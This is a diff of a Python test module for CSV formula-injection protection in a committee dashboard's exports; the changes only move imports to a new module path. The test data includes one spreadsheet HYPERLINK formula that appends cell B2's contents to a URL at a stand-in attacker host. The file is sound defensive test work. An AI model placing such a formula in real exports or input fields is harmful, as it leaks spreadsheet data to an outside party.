@@ -1,6 +1,6 @@
 """Issue 11, point 6: CSV formula injection. A title written by a point of contact or an offering
 state must reach the secretariat's spreadsheet as text, never as a live formula; every CSV export
-goes through the shared writer (committee/exports.py), which also marks the file as UTF-8."""
+goes through the shared writer (core/exports.py), which also marks the file as UTF-8."""
 
 from __future__ import annotations
 
@@ -9,8 +9,8 @@ import io
 
 import pytest
 
-from committee import dashboard
-from committee.exports import csv_text, restore_cell, safe_cell
+from committee.work import dashboard
+from core.exports import csv_text, restore_cell, safe_cell
 from tests.assistance import builders
 
 HYPERLINK = '=HYPERLINK("http://evil.example/x?"&B2,"Open")'
